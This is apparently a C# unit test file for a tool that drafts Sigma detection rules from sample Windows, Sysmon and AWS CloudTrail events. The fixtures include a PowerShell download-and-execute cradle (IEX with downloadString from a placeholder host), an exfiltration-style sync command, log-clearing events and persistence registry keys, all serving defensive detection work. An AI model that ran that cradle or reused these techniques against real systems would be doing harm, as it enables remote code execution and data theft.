using System.Text;
using Modus.Logs;
using Modus.Sigma;
using Modus.Sigma.Drafting;
using Modus.Sigma.Fixtures;
using Modus.Sigma.Linting;
using Xunit;

namespace Modus.Tests.Sigma.Drafting;

public sealed class RuleDrafterTests
{
    private const string Event = """{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Provider":{"#attributes":{"Name":"x"}},"Computer":"WS-114"},"EventData":{"ProcessGuid":"{6f1c2b1e-5e3f-6918-0a01-000000001a00}","ProcessId":"5120","Image":"C:\\Users\\m.hale\\AppData\\Local\\Temp\\kx72a.exe","CommandLine":"C:\\Users\\m.hale\\kx72a.exe --sync 10.1.2.3 \"D:\\Share\\HR\" --transfers 12 9f86d081884c7d659a2feaa0c55ad015","User":"CORP\\m.hale","Hashes":"SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","ParentImage":"C:\\Windows\\System32\\cmd.exe"}}}""";

    [Fact]
    public void Keeps_what_the_behaviour_needs_and_drops_what_changes()
    {
        var draft = Draft(Event);

        Assert.Contains("'--sync'", draft.Yaml, StringComparison.Ordinal);
        Assert.Contains("'--transfers'", draft.Yaml, StringComparison.Ordinal);
        Assert.Contains("ParentImage|endswith: '\\cmd.exe'", draft.Yaml, StringComparison.Ordinal);
        foreach (var gone in (string[])["10.1.2.3", "m.hale", "5120", "6f1c2b1e", "9f86d081", "WS-114", "kx72a"])
            Assert.DoesNotContain(gone, draft.Yaml, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(draft.Left, one => one.Field == "ProcessId");
    }

    [Fact]
    public void Matches_its_own_event_and_not_the_counter_example()
    {
        var draft = Draft(Event);
        var problems = new List<Problem>();
        var fixtures = FixtureReader.Read(draft.Fixtures, "f.json", problems);
        var set = RuleSet.Parse([("d.yml", draft.Yaml)]);

        Assert.Empty(problems);
        Assert.Empty(set.Problems);
        Assert.Equal([true, false], fixtures!.Cases.Select(one => one.MustMatch));
        Assert.All(FixtureRunner.Run(set, fixtures), result => Assert.True(result.Passed, result.Why));
    }

    [Fact]
    public void Is_a_rule_without_errors_or_warnings_and_the_same_each_time()
    {
        var draft = Draft(Event);

        Assert.DoesNotContain(RuleLint.Run([new("d.yml", draft.Yaml)], new()).Findings, finding => finding.Severity != LintSeverity.Hint);
        Assert.Equal(draft.Yaml, Draft(Event).Yaml);
        Assert.Equal(draft.Fixtures, Draft(Event).Fixtures);
    }

    [Theory]
    [InlineData("""{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-10-02T11:02:20.1102Z"}},"EventRecordID":71102,"Channel":"Security","Computer":"FS1"},"UserData":{"LogFileCleared":{"SubjectUserName":"m.hale"}}}}""", "1102", "8897")]
    [InlineData("""{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}}, "EventID" : 4769,"Channel":"Security","Computer":"DC1"},"EventData":{"TicketEncryptionType":"0x17","LogonType": 3,"ServiceName":"sql"}}}""", "4769", "5230")]
    [InlineData("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID>104</EventID><TimeCreated SystemTime='2026-10-02T03:31:20.104Z'/><EventRecordID>3104</EventRecordID><Channel>System</Channel><Computer>FS1</Computer></System><UserData><LogFileCleared><Channel>Setup</Channel></LogFileCleared></UserData></Event>", "104", "895")]
    public void Replaces_a_number_by_a_number_so_that_the_counter_example_stays_a_log(string log, string number, string other)
    {
        var draft = Draft(log);

        Assert.Contains($"EventID: '{number}'", draft.Yaml, StringComparison.Ordinal);
        var counter = FixtureReader.Read(draft.Fixtures, "f.json", [])!.Cases.Single(one => !one.MustMatch);
        Assert.Equal(other, Read(counter.Log)["EventID"]);
        Assert.Equal(Read(log)["EventRecordID"], Read(counter.Log)["EventRecordID"]);
        Assert.Equal(Read(log).Time, Read(counter.Log).Time);
    }

    [Theory]
    [InlineData("13", "TargetObject", "HKU\\S-1-5-21-1-2-3-1001_CLASSES\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)", "TargetObject|contains|all:\n      - '\\CLSID\\'\n      - '\\InprocServer32\\(Default)'")]
    [InlineData("13", "TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "TargetObject|contains: '\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell'")]
    [InlineData("8", "SourceImage", "System", "SourceImage: 'System'")]
    [InlineData("1", "OriginalFileName", "\\\\*\\a\\\\b?\\\\\\c\\", "OriginalFileName: '\\\\\\\\\\*\\a\\\\\\\\b\\?\\\\\\\\\\\\c\\'")]
    [InlineData("17", "PipeName", "spoolss", "PipeName: 'spoolss'")]
    public void Keeps_what_stands_around_an_id_and_a_name_without_a_folder_whole(string id, string field, string value, string part)
    {
        var draft = Draft($$$$"""{"Event":{"System":{"EventID":{{{{id}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS-1"},"EventData":{"{{{{field}}}}":"{{{{value.Replace("\\", "\\\\", StringComparison.Ordinal)}}}}"}}}""");

        Assert.Contains(part, draft.Yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void Asks_a_script_for_what_it_calls()
    {
        var draft = Draft("""{"Event":{"System":{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WS-1"},"EventData":{"ScriptBlockText":"IEX(New-Object Net.WebClient).downloadString('https://files.example/a.ps1');$zq81x = 12","ScriptBlockId":"{6f1c2b1e-5e3f-6918-0a01-000000001a00}"}}}""");

        Assert.Contains("ScriptBlockText|contains|all:\n      - 'New-Object'\n      - 'Net.WebClient'\n      - 'IEX'\n      - 'downloadString'\n", draft.Yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void Asks_a_cloud_event_for_its_operation()
    {
        var draft = Draft("""{"eventVersion":"1.10","eventTime":"2026-01-01T00:00:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"eu-central-1","sourceIPAddress":"203.0.113.4","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/x"},"requestID":"7b1e7f9c-0000-4c55-9d0b-000000000001"}""");

        Assert.Contains("eventName: 'StopLogging'", draft.Yaml, StringComparison.Ordinal);
        Assert.Contains("product: aws", draft.Yaml, StringComparison.Ordinal);
        Assert.DoesNotContain("203.0.113.4", draft.Yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void Keeps_of_several_events_what_they_share_and_matches_them_all()
    {
        string[] logs =
        [
            Event,
            Event.Replace("--transfers", "--checkers", StringComparison.Ordinal).Replace("cmd.exe", "wscript.exe", StringComparison.Ordinal).Replace("--sync", "--SYNC", StringComparison.Ordinal),
        ];

        var draft = RuleDrafter.Draft([.. logs.Select(log => (Read(log), (string?)log))], new() { Date = new(2026, 1, 1) }, out var problem);

        Assert.True(draft is not null, problem?.ToString());
        var problems = new List<Problem>();
        var fixtures = FixtureReader.Read(draft!.Fixtures, "f.json", problems)!;
        Assert.Equal([true, true, false], fixtures.Cases.Select(one => one.MustMatch));
        Assert.All(FixtureRunner.Run(RuleSet.Parse([("d.yml", draft.Yaml)]), fixtures), result => Assert.True(result.Passed, result.Why));
        Assert.Contains("Drafted from 2 events", draft.Yaml, StringComparison.Ordinal);
        Assert.Contains("ParentImage|endswith:\n      - '\\cmd.exe'\n      - '\\wscript.exe'", draft.Yaml, StringComparison.Ordinal);
        Assert.Contains("'--sync'", draft.Yaml, StringComparison.Ordinal);
        foreach (var gone in (string[])["--transfers", "--checkers"]) Assert.DoesNotContain(gone, draft.Yaml, StringComparison.Ordinal);
        Assert.Throws<ArgumentException>(() => RuleDrafter.Draft([(Read(Event), Event), (Read("{\"a\": 1}"), null)], new() { Date = new(2026, 1, 1) }, out _));
    }

    [Fact]
    public void Refuses_an_event_of_an_unknown_log_source()
    {
        var record = Read("{\"a\": 1}");

        Assert.Null(RuleDrafter.Draft(record, "{\"a\": 1}", new() { Date = new(2026, 1, 1) }, out var problem));
        Assert.Equal("MD2700", problem!.Code);
    }

    private static DraftedRule Draft(string log)
    {
        var draft = RuleDrafter.Draft(Read(log), log, new() { Date = new(2026, 1, 1), Author = "Tester", Tags = ["attack.t1490"] }, out var problem);
        Assert.True(draft is not null, problem?.ToString());
        return draft!;
    }

    private static EventRecord Read(string log) => new LogReader(new() { Threads = 1 }).Read(new MemoryStream(Encoding.UTF8.GetBytes(log)), "log").Select(one => one.Keep()).First();
}
